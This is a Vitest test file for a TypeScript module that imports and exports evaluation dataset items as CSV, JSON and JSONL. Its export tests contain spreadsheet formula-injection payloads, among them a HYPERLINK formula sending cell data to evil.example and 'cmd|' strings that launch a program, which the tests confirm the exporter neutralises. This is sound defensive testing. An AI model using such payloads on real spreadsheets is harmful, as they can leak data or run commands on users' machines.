import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import {
  itemsToCsv,
  itemsToJsonl,
  parseCell,
  parseCsvItems,
  parseJsonItems,
  parseJsonlItems,
  type DeclaredVariable,
} from "./parse";

const vars: DeclaredVariable[] = [
  { name: "question", type: "string", required: true, hasDefault: false },
  { name: "count", type: "number", required: false, hasDefault: false },
  { name: "urgent", type: "boolean", required: false, hasDefault: false },
  { name: "context", type: "json", required: false, hasDefault: false },
];

describe("parseCell", () => {
  it.each([
    ["3.5", "number", 3.5],
    [" 42 ", "number", 42],
    ["-1e3", "number", -1000],
    ["true", "boolean", true],
    ["No", "boolean", false],
    ["1", "boolean", true],
    ['{"a":[1,2]}', "json", { a: [1, 2] }],
    ["12", "json", 12],
    ["12", "string", "12"],
    ["12", undefined, "12"],
  ] as const)("%j as %s → %j", (cell, type, value) => {
    expect(parseCell(cell, type)).toEqual(value);
  });

  it.each([
    ["abc", "number", "must be a number"],
    ["", "number", "must be a number"],
    ["maybe", "boolean", "must be true or false"],
    ["{a:1}", "json", "must be JSON"],
  ] as const)("%j as %s fails: %s", (cell, type, message) => {
    expect(() => parseCell(cell, type)).toThrow(message);
  });
});

describe("parseCsvItems", () => {
  it("reads variables, expected (text or JSON), tags split on ; and metadata, typed by the prompt", () => {
    const csv =
      'question,count,urgent,context,expected,tags,metadata\n"Where is, my order?",2,yes,"{""id"":7}",It ships today,billing; urgent ,"{""src"":""x""}"\nHi,,,,"{""ok"":true}",,\n';
    const r = parseCsvItems(csv, vars);
    expect(r).toEqual({
      ok: true,
      items: [
        {
          input: { question: "Where is, my order?", count: 2, urgent: true, context: { id: 7 } },
          expected: "It ships today",
          tags: ["billing", "urgent"],
          metadata: { src: "x" },
        },
        { input: { question: "Hi" }, expected: { ok: true }, tags: [], metadata: {} },
      ],
    });
  });

  it("keeps cells as text without a prompt", () => {
    const r = parseCsvItems("count,expected\n3,4\n", undefined);
    expect(r).toEqual({ ok: true, items: [{ input: { count: "3" }, expected: "4", tags: [], metadata: {} }] });
  });

  it("lists every bad row with its number and why", () => {
    const csv = "question,count,urgent\nok,1,true\n,abc,true\nfine,2,perhaps\nshort\n";
    const r = parseCsvItems(csv, vars);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors).toEqual([
      { row: 2, field: "input.count", message: 'input.count must be a number, got "abc"' },
      { row: 2, field: "input.question", message: "input.question is required by the prompt and missing" },
      { row: 3, field: "input.urgent", message: 'input.urgent must be true or false, got "perhaps"' },
      { row: 4, message: "has 1 cells; the header has 3 columns" },
    ]);
  });

  it.each([
    ["question,question\na,b\n", 'column "question" appears twice'],
    ["question,my var\na,b\n", 'column "my var" is not a variable name'],
    ["", "no header row"],
    ["question\n", "no items"],
  ])("refuses a bad header or empty file: %j", (csv, message) => {
    const r = parseCsvItems(csv, vars);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.errors[0]!.message).toContain(message);
  });
});

describe("parseJsonItems / parseJsonlItems", () => {
  it("accepts {items} and checks declared types", () => {
    const r = parseJsonItems(
      {
        items: [
          { input: { question: "a", count: 1 }, expected: "x", tags: ["t", "t"] },
          { input: { question: 5 } },
          { input: {}, extra: 1 },
        ],
      },
      vars,
    );
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors.map((e) => [e.row, e.message])).toEqual([
      [2, "input.question must be a string (the prompt declares it so)"],
      [3, "extra is not an item field (input, expected, tags, metadata)"],
    ]);
  });

  it("checks a value against the variable's schema, naming the path", () => {
    const typed: DeclaredVariable[] = [
      {
        name: "tags",
        type: "json",
        required: true,
        hasDefault: false,
        schema: { type: "array", items: { enum: ["a", "b"] } },
      },
    ];
    const r = parseJsonItems({ items: [{ input: { tags: ["a"] } }, { input: { tags: ["a", "c"] } }] }, typed);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors).toEqual([
      { row: 2, field: "input.tags[1]", message: `input.tags[1] must be one of ["a","b"] (the prompt's schema)` },
    ]);
  });

  it("dedupes tags and drops a null expected", () => {
    expect(parseJsonItems({ items: [{ input: { q: "a" }, expected: null, tags: ["t", "t"] }] })).toEqual({
      ok: true,
      items: [{ input: { q: "a" }, tags: ["t"], metadata: {} }],
    });
  });

  it("refuses a body without items", () => {
    expect(parseJsonItems({ rows: [] })).toMatchObject({ ok: false, errors: [{ field: "items" }] });
  });

  it("numbers JSONL rows by line, blank lines included", () => {
    const r = parseJsonlItems('{"input":{"question":"a"}}\n\n{"input":\n{"input":{"question":"b"},"tags":"x"}\n', vars);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors.map((e) => e.row)).toEqual([3, 4]);
    expect(r.errors[0]!.message).toMatch(/^not valid JSON/);
    expect(r.errors[1]!.message).toBe("tags must be a list of strings");
  });
});

describe("export", () => {
  const items = [
    { id: "1", input: { question: "a, b", count: 2 }, expected: { ok: true }, tags: ["x", "y"], metadata: {} },
    { id: "2", input: { question: 'say "hi"' }, expected: "hello", tags: [], metadata: { k: 1 } },
  ];

  it("CSV reimports as the same items under the prompt's types", () => {
    const csv = itemsToCsv(items);
    const back = parseCsvItems(csv, vars);
    expect(back).toEqual({ ok: true, items: items.map(({ id: _id, ...rest }) => rest) });
  });

  // A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as a formula:
  // outputs that came from online samples are text a runtime key sent, i.e. anyone's.
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"],
    ["+cmd|' /C calc'!A0", "'+cmd"],
    ["-2+3", "'-2+3"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    // Already starting with a quote before a formula character: quoted once more, so reimport is exact.
    ["'=1+1", "''=1+1"],
  ])("CSV neutralises a cell starting %j and reimports it unchanged", (value, starts) => {
    const row = { id: "1", input: { question: value }, expected: value, tags: [], metadata: {} };
    const csv = itemsToCsv([row]);
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1]!;
    expect(cells[0]!.startsWith(starts)).toBe(true);
    expect(cells[1]!.startsWith(starts)).toBe(true);
    expect(parseCsvItems(csv, vars)).toEqual({
      ok: true,
      items: [{ input: { question: value }, expected: value, tags: [], metadata: {} }],
    });
  });

  it("CSV leaves ordinary cells alone", () => {
    const csv = itemsToCsv([{ id: "1", input: { question: "a = b", count: 2 }, tags: ["t"], metadata: {} }]);
    expect(csv).toBe("question,count,expected,tags,metadata\na = b,2,,t,\n");
  });

  it("JSONL reimports as the same items", () => {
    const back = parseJsonlItems(itemsToJsonl(items));
    expect(back).toEqual({ ok: true, items: items.map(({ id: _id, ...rest }) => rest) });
  });
});

describe("deep JSON", () => {
  // A snapshot of the project must import again, and PostgreSQL's jsonb and our own recursion have
  // limits: every upload path refuses more than 64 levels, naming the row and field.
  const deep = (n: number) => "[".repeat(n) + "]".repeat(n);
  const deepObject = (n: number) => '{"a":'.repeat(n) + "1" + "}".repeat(n);

  it.each([
    ["JSONL input", () => parseJsonlItems(`{"input":{"question":"q","context":${deep(1000)}}}\n`, vars), 1],
    ["JSONL expected", () => parseJsonlItems(`{"input":{"question":"q"},"expected":${deep(5000)}}\n`, vars), 1],
    ["JSONL metadata", () => parseJsonlItems(`{"input":{"question":"q"},"metadata":${deepObject(100)}}\n`, vars), 1],
    ["CSV json cell", () => parseCsvItems(`question,context\nq,"${deep(1000)}"\n`, vars), 1],
    ["CSV expected", () => parseCsvItems(`question,expected\nq,"${deep(5000)}"\n`, vars), 1],
    ["CSV metadata", () => parseCsvItems(`question,metadata\nq,"${deepObject(200).replace(/"/g, '""')}"\n`, vars), 1],
    [
      "JSON items",
      () =>
        parseJsonItems(
          { items: [{ input: { question: "q" } }, { input: { question: "q", context: JSON.parse(deep(70)) } }] },
          vars,
        ),
      2,
    ],
  ])("refuses %s nested more than 64 levels, naming the row", (_, parse, row) => {
    const r = parse();
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors).toEqual([
      expect.objectContaining({ row, message: expect.stringContaining("nested more than 64 levels") }),
    ]);
  });

  it("accepts 64 levels", () => {
    expect(parseJsonlItems(`{"input":{"question":"q","context":${deep(60)}}}\n`, vars).ok).toBe(true);
  });
});
